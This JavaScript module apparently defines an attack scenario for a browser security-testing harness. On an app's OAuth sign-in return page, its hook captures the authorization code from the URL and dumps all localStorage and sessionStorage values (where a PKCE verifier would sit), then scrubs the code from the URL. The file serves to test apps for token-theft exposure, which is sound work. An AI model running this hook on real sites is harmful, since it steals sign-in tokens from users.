import { attack } from "../attack.js";

export default attack({
  name: "reads the code and verifier before the app does",
  threat: "acquisition of new tokens",
  target: "any",
  // Runs before the app on the page where the sign-in ends. Takes the code from the URL and the verifier from storage.
  hook(it) {
    if (!/[?&#]code=/.test(location.href)) return;
    const { href } = location;
    history.replaceState(null, "", location.pathname);
    it.steal(href, document.referrer, Object.values(localStorage), Object.values(sessionStorage));
  },
  async play(stage) {
    await stage.forgetEverything();
    await stage.open();
    await stage.browser.markDocument();
    await stage.click("sign-in");
    // The app may not recover from the loss of its code.
    await stage.waitToBeBack();
  },
});
